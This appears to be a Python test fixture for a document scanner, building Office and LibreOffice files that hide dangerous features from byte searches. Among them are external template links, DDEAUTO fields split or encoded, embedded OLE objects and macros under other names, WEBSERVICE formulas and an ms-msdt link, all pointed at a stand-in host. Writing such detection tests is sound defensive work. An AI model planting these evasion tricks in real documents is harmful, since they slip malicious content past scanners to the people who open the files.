"""Office files whose danger is written so that no search through their bytes would find it."""

from tests.vault.packed import R, Trap, body, holding
from tests.vault.samples import docx_parts, odf_parts, xlsx_parts, zipped

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _relating(relation: str, at: str = "word/_rels/document.xml.rels") -> bytes:
    """A Word file with this relation, as it is written."""
    return zipped(
        {**docx_parts(), at: f'<Relationships xmlns="{_RELS}">{relation}</Relationships>'}
    )


def _inside(kind: str, target: str) -> bytes:
    """A Word file that points to one of its own parts."""
    return _relating(f'<Relationship Id="r1" Type="{_OFFICE}/{kind}" Target="{target}"/>')


def _typed(content_type: str) -> bytes:
    parts = docx_parts()
    typed = str(parts["[Content_Types].xml"]).replace(
        "</Types>", f'<Override PartName="/a.dat" ContentType="{content_type}"/></Types>'
    )
    return zipped({**parts, "[Content_Types].xml": typed, "a.dat": "a"})


def linking(target: str) -> bytes:
    """A Word file with a link to click."""
    return _relating(
        f'<Relationship Type="https://a/relationships/hyperlink" Target="{target}"'
        ' TargetMode="External"/>'
    )


def drawn(inside: str) -> bytes:
    """A Word file with a drawing among its pictures."""
    return holding(word__media__a_svg=f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>')


def field(*pieces: str, inside: str = "") -> str:
    """A field of Word, its words in so many runs, or fields themselves; what it came to inside."""
    words = "".join(
        piece if piece.startswith("<") else f"<w:r><w:instrText>{piece}</w:instrText></w:r>"
        for piece in pieces
    )
    shown = f"{_mark('separate')}{inside}" if inside else ""
    return f"{_mark('begin')}{words}{shown}{_mark('end')}"


def _mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def _spelt() -> str:
    """A field whose name comes out of another field."""
    return field(field("QUOTE 68 68 69 65 85 84 79"), " cmd a")


def _cell(formula: str) -> bytes:
    cell = (
        f'<worksheet><sheetData><row><c r="A1"><f>{formula}</f></c></row></sheetData></worksheet>'
    )
    return zipped({**xlsx_parts(), "xl/worksheets/sheet1.xml": cell})


_HIDDEN = '<w:document xmlns:w="urn:w"><w:instrText>DDEAUTO cmd a</w:instrText></w:document>'
_FAR = 'Target="https://piege.test/a.dotm" TargetMode="External"'

WRITTEN: dict[str, Trap] = {
    "a template that calls itself a link": (
        "a.docx",
        _relating(
            f'<Relationship Id="r1" Type="{_OFFICE}/attachedTemplate" TargetMode="External"'
            """ Target="https://piege.test/?Type='/hyperlink'"/>"""
        ),
        R.OFFICE_EXTERNAL,
    ),
    "a template behind a bracket": (
        "a.docx",
        _relating(f'<Relationship Id="a>b" Type="{_OFFICE}/attachedTemplate" {_FAR}/>'),
        R.OFFICE_EXTERNAL,
    ),
    "a template spelt by references": (
        "a.docx",
        _relating(
            f'<Relationship Id="r1" Type="{_OFFICE}/attachedTemplate"'
            ' Target="https://piege.test/a.dotm" TargetMode="&#69;xternal"/>'
        ),
        R.OFFICE_EXTERNAL,
    ),
    "a template under a prefix": (
        "a.docx",
        _relating(
            f'<a.b:Relationship xmlns:a.b="{_RELS}" Id="r1" Type="{_OFFICE}/attachedTemplate"'
            f" {_FAR}/>"
        ),
        R.OFFICE_EXTERNAL,
    ),
    "a template in capitals": (
        "a.docx",
        _relating(
            f'<Relationship Id="r1" Type="{_OFFICE}/attachedTemplate" {_FAR}/>',
            at="word/_rels/settings.xml.RELS",
        ),
        R.OFFICE_EXTERNAL,
    ),
    "a page of the web taken in": (
        "a.docx",
        _inside("aFChunk", "afchunk.mht"),
        R.OFFICE_OBJECT,
    ),
    "a page of the web in its place": ("a.docx", body("<w:altChunk/>"), R.OFFICE_OBJECT),
    "a page of the web by its type": ("a.docx", _typed("text/html"), R.OFFICE_OBJECT),
    "an object under any name": ("a.docx", _inside("oleObject", "media/a.dat"), R.OFFICE_OBJECT),
    "an object under a prefix": (
        "a.docx",
        holding(word__a_xml='<a.b:OLEObject xmlns:a.b="urn:b"/>'),
        R.OFFICE_OBJECT,
    ),
    "a macro under any name": ("a.docx", _inside("vbaProject", "media/a.dat"), R.OFFICE_MACRO),
    "an add-in": ("a.docx", _inside("webextension", "a.xml"), R.OFFICE_MACRO),
    "another workbook under any name": (
        "a.xlsx",
        zipped(
            {
                **xlsx_parts(),
                "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{_RELS}"><Relationship'
                f' Id="r1" Type="{_OFFICE}/externalLink" Target="a.xml"/></Relationships>',
            }
        ),
        R.OFFICE_EXTERNAL,
    ),
    "a field in two runs": ("a.docx", body(field("DDE", "AUTO cmd a")), R.OFFICE_EXTERNAL),
    "a field spelt by references": (
        "a.docx",
        body(field("&#68;&#68;EAUTO cmd a")),
        R.OFFICE_EXTERNAL,
    ),
    "a field after another": (
        "a.docx",
        body(field("PAGE") + field("DDEAUTO cmd a")),
        R.OFFICE_EXTERNAL,
    ),
    "a field that nothing ends": (
        "a.docx",
        body(f"{_mark('begin')}<w:instrText>ddeauto cmd a</w:instrText>"),
        R.OFFICE_EXTERNAL,
    ),
    "a field spelt by another": ("a.docx", body(_spelt()), R.OFFICE_EXTERNAL),
    "a field in an attribute": (
        "a.docx",
        body('<w:fldSimple w:instr=" &#x49;NCLUDEPICTURE https://piege.test"/>'),
        R.OFFICE_EXTERNAL,
    ),
    "a field in a part of any name": ("a.docx", holding(word__a_dat=_HIDDEN), R.OFFICE_EXTERNAL),
    "an old picture elsewhere": (
        "a.docx",
        body('<v:imagedata xmlns:v="urn:v" src="https://piege.test/a.png"/>'),
        R.OFFICE_EXTERNAL,
    ),
    "a cell that fetches": (
        "a.xlsx",
        _cell("_xlfn.WEBSERVICE(&quot;https://piege.test&quot;)"),
        R.OFFICE_EXTERNAL,
    ),
    "a cell of LibreOffice that fetches": (
        "a.ods",
        zipped(
            odf_parts(
                "spreadsheet",
                more="""<table:table-cell table:formula='of:=WEBSERVICE("https://piege.test")'/>""",
            )
        ),
        R.OFFICE_EXTERNAL,
    ),
    "an image of LibreOffice spelt by references": (
        "a.odt",
        zipped(odf_parts("text", more='<draw:image xlink:href="&#104;ttps://piege.test/a"/>')),
        R.OFFICE_EXTERNAL,
    ),
    "an address where a part should be": (
        "a.docx",
        _inside("image", "https://piege.test/a.png"),
        R.OFFICE_EXTERNAL,
    ),
    "a link to a share": ("a.docx", linking("file://///piege.test/a/a.exe"), R.OFFICE_EXTERNAL),
    "a link to a program": ("a.docx", linking("ms-msdt:/id PCWDiagnostic"), R.OFFICE_EXTERNAL),
    "a program among the pictures": (
        "a.docx",
        holding(word__media__a_png=b"MZ\x90\0"),
        R.OFFICE_OBJECT,
    ),
    "an object among the pictures": (
        "a.docx",
        holding(word__media__a_dat=b"\xd0\xcf\x11\xe0"),
        R.OFFICE_OBJECT,
    ),
    "a drawing that acts": ("a.docx", drawn("<g onload='a()'/>"), R.OFFICE_MACRO),
    "a drawing that fetches": (
        "a.docx",
        drawn("<image href='https://piege.test/a.png'/>"),
        R.OFFICE_EXTERNAL,
    ),
    "a drawing filled from elsewhere": (
        "a.docx",
        drawn("<g style='fill: url( //piege.test/a)'/>"),
        R.OFFICE_EXTERNAL,
    ),
    "a drawing whose styles are fetched": (
        "a.docx",
        drawn("<style>@import url(a.css)</style>"),
        R.OFFICE_EXTERNAL,
    ),
    "a drawing whose styles hide what they say": (
        "a.docx",
        drawn("<style>@\\69mport 'a'</style>"),
        R.OFFICE_EXTERNAL,
    ),
    "XML in another alphabet": (
        "a.docx",
        holding(word__a_xml='<?xml version="1.0" encoding="UTF-7"?><a/>'),
        R.OFFICE_XML,
    ),
}
